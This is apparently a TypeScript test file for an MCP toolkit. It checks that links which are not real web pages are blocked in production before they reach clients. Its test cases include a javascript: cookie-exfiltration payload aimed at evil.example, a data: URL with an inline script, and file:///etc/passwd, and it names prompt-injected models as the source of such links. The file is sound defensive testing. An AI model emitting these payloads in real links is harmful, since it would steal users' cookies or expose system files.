/**
 * A URL-mode link is a web page the person is sent to. One that is no page at all — not an
 * absolute URL, a `javascript:`, `data:` or `file:` link, or longer than any client takes — is
 * never sent, in production too: lint errors there are only recorded, so a tool that built its
 * link from what a caller passed (a prompt-injected model) sent `javascript:…` or `file:///…` to
 * every client, and left it to each to refuse. It ends the call with an error naming the reason,
 * before anything is asked. Real SDK client over a linked in-memory pair (2025-11-25).
 */
import { Client } from '@modelcontextprotocol/client';
import { InMemoryTransport } from '@modelcontextprotocol/server';
import { afterEach, describe, expect, it, vi } from 'vitest';
import * as z from 'zod/v4';
import { createElicitkit } from './kit.js';
import { done } from './results.js';
import { defineTool } from './tool.js';

const cleanup: (() => Promise<void> | void)[] = [];
afterEach(async () => {
  vi.unstubAllEnvs();
  for (const fn of cleanup.splice(0).reverse()) await fn();
});

/** A tool that sends the person to the link its caller names (the mistake this guards). */
const connect = defineTool({
  name: 'connect',
  description: 'Connects an account on the page the caller names.',
  inputSchema: z.object({ link: z.string() }),
  async run({ link }, { askUrl }) {
    const page = await askUrl('connect', {
      message: 'Connect your account on this page.',
      url: link,
      isComplete: () => false,
    });
    return page.action === 'accept' ? done('Connected.') : page.result();
  },
});

async function called(link: string) {
  const kit = createElicitkit({ urlWaitMs: 0 });
  const [a, b] = InMemoryTransport.createLinkedPair();
  await kit.createServer({ name: 'accounts', version: '1' }, [connect]).connect(a);
  const client = new Client({ name: 'person', version: '1' }, { capabilities: { elicitation: { url: {} } } });
  const sent: unknown[] = [];
  client.setRequestHandler('elicitation/create', async (request) => {
    sent.push(request.params);
    return { action: 'accept' };
  });
  await client.connect(b);
  cleanup.push(() => client.close());
  const result = await client.callTool({ name: 'connect', arguments: { link } });
  return { result, sent };
}

describe('a URL-mode link that is no web page', () => {
  it.each([
    ['javascript:', 'javascript:fetch("https://evil.example/?c="+document.cookie)'],
    ['data:', 'data:text/html,<script>alert(1)</script>'],
    ['file:', 'file:///etc/passwd'],
    ['not absolute', '/relative/path'],
    ['over 8192 characters', `https://accounts.example.com/${'a'.repeat(8200)}`],
  ])('%s: never sent in production; the call ends with an error saying why', async (_what, link) => {
    vi.stubEnv('NODE_ENV', 'production');
    const { result, sent } = await called(link);
    expect(sent).toEqual([]);
    expect(result.isError).toBe(true);
    expect(JSON.stringify(result.content)).toContain('URL mode');
  });

  it('an https page is sent as it was', async () => {
    vi.stubEnv('NODE_ENV', 'production');
    const { result, sent } = await called('https://accounts.example.com/connect/abc');
    expect(sent).toHaveLength(1);
    expect(result.structuredContent).toMatchObject({ status: 'pending' });
  });
});
